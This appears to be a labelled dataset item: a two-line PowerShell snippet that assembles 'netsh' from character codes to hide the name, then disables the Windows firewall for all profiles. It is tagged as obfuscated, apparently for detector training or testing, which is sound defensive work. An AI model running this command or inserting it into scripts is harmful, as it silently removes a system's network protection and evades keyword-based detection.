# description: Builds netsh from a char array and turns the firewall off.
# family: security
# obfuscated: yes
$n = ([char[]](110,101,116,115,104)) -join ''
& $n advfirewall set allprofiles state off
